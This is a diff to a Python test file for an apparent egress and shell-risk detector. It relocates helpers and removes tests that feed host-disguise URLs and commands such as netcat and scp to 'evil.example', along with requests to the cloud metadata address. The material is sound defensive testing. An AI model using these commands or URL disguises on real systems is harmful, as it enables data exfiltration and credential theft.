@@ -2,7 +2,6 @@
 
 import ipaddress
 import string
-from typing import Any
 
 import pytest
 from hypothesis import given, settings
@@ -12,20 +11,10 @@ from acs_sidecar.detectors.registry import DETECTORS, build_detector
 from acs_sidecar.spec.canonical import canonical, digest
 from acs_sidecar.spec.manifest.diagnostics import ManifestError
 from acs_sidecar.spec.values import Json
+from tests.detectors.detected import detected, spans
 from tests.strategies import json_values
 
 FAKE = "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
-
-
-def detected(provider: str, value: Json, **options: Json) -> dict[str, Any]:
-    """The annotation of a value."""
-    return build_detector(provider, "annotators.a", {"provider": provider, **options})(value)
-
-
-def spans(provider: str, text: str, **options: Json) -> list[tuple[str, str]]:
-    """What was found: category and the text of the span."""
-    findings = detected(provider, text, **options)["findings"]
-    return [(finding["category"], text[finding["start"] : finding["end"]]) for finding in findings]
 
 
 @pytest.mark.parametrize(
@@ -233,86 +222,6 @@ def test_risky_commands_are_found(command: Json, category: str) -> None:
 def test_ordinary_commands_are_left_alone(command: str) -> None:
     """What developers type all day."""
     assert not detected("shell_risk", command)["flagged"]
-
-
-@pytest.mark.parametrize(
-    ("text", "hosts"),
-    [
-        ("https://allowed.example:x@evil.example/", ["evil.example"]),
-        ("https://allowed.example\\@evil.example/", ["allowed.example", "evil.example"]),
-        ("//evil.example/x", ["evil.example"]),
-        ("https:evil.example", ["evil.example"]),
-        ("http://2130706433/", ["127.0.0.1"]),
-        ("http://0x7f.1/ http://0177.0.0.1/", ["127.0.0.1"]),
-        ("http://[::ffff:169.254.169.254]/", ["169.254.169.254"]),
-        ("https://%65vil.example/", ["evil.example"]),
-        ("https://evil。example/", ["evil.example"]),
-        ("https://аllowed.example/", ["xn--llowed-2nf.example"]),
-        ("\\\\evil.example\\share", ["evil.example"]),
-        ("nc evil.example 443", ["evil.example"]),
-        ("scp a.txt bob@evil.example:/tmp", ["evil.example"]),
-        ("jdbc:postgresql://evil.example/x", ["evil.example"]),
-        ("evil.example:8080", ["evil.example"]),
-    ],
-)
-def test_hosts_are_what_a_client_would_reach(text: str, hosts: list[str]) -> None:
-    """However the URL is written; and what is not allowed is flagged."""
-    found = detected("egress", text, allow=["allowed.example"])
-    assert found["hosts"] == hosts
-    assert (found["flagged"], "not_allowed" in found["categories"]) == (True, True)
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "see https://allowed.example/a.",
-        "https://sub.good.example",
-        "https://allowed.example#@evil.example",
-        "cat main.py README.md",
-        "std::vector a::b key: value // comment",
-        "C:\\Users\\x",
-        "curl https://allowed.example/x -o out.json",
-    ],
-)
-def test_what_is_allowed_or_no_host_is_left_alone(text: str) -> None:
-    """Allowed hosts, those below `*.`, and texts without hosts."""
-    assert not detected("egress", text, allow=["allowed.example", "*.good.example"])["flagged"]
-
-
-def test_a_host_below_is_not_the_host_itself() -> None:
-    """`*.good.example` allows neither `good.example` nor `notgood.example`."""
-    for host in ("good.example", "notgood.example", "good.example.evil.example"):
-        assert detected("egress", f"https://{host}/", allow=["*.good.example"])["flagged"]
-
-
-@pytest.mark.parametrize(
-    "one", ["//bücher{}.example ", "https://x{}@a.example@b ", "curl é{}.example\n", "http://0x7f.{}.a/ "]
-)
-def test_a_text_full_of_hosts_that_take_long_to_read_is_flagged(one: str) -> None:
-    """Sixteen and one for each KiB are read; the next counts as every disguise, and as not allowed."""
-    text = "".join(one.format(index) for index in range(16, 40))
-    found = detected("egress", text)
-    assert (found["flagged"], "[unread]" in found["hosts"]) == (True, True)
-    assert set(found["categories"]) == {
-        "ambiguous_url",
-        "encoded_host",
-        "internal_address",
-        "ip_literal",
-        "punycode",
-        "userinfo",
-    }
-    allowed: list[Json] = [f"é{index}.example" for index in range(40)]
-    assert "not_allowed" in detected("egress", text, allow=allowed)["categories"]
-    assert "[unread]" not in detected("egress", one.format(16) * 100)["hosts"]
-
-
-def test_without_a_list_only_disguises_are_flagged() -> None:
-    """A plain host is listed; one that pretends, or an address that gives out credentials, is flagged."""
-    assert detected("egress", "https://a.example/") == {
-        "flagged": False, "score": 0, "label": "none", "categories": [], "findings": [], "hosts": ["a.example"],
-    }  # fmt: skip
-    assert detected("egress", "https://a.example:x@b.example/")["categories"] == ["userinfo"]
-    assert detected("egress", "http://169.254.169.254/latest")["categories"] == ["internal_address"]
 
 
 TOOL: dict[str, Json] = {
